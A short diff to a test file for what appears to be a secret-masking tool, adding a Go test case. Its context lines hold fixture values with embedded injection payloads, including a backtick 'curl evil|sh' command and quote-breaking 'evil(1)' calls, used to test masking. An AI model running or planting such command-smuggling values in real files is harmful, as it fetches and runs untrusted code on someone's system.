@@ -143,6 +143,7 @@ def test_a_value_that_is_code_elsewhere_is_masked_only_where_it_is_a_value(given
             'create-secret: "xxxx -x xxxxx://xxxx.xxxxxxx/x0 | xx"',
         ),
         ("app.py", 'DB_PASSWORD="a1`curl evil|sh`"', 'DB_PASSWORD="x0`xxxx xxxx|xx`"'),
+        ("app.go", f"password := `{RANDOM}`", f"password := `{mask(RANDOM)}`"),
         ("app.py", '// password = "x9y8?><?=print1(1)"', '// password = "x0x0?><?=xxxxx0(0)"'),
         ("app.py", "password = 'a1b2\";evil(1);x=\"'", "password = 'x0x0\";xxxx(0);x=\"'"),
         ("app.swift", 'let password = "a1\\(evil(1))"', 'let password = "x0\\(xxxx(0))"'),
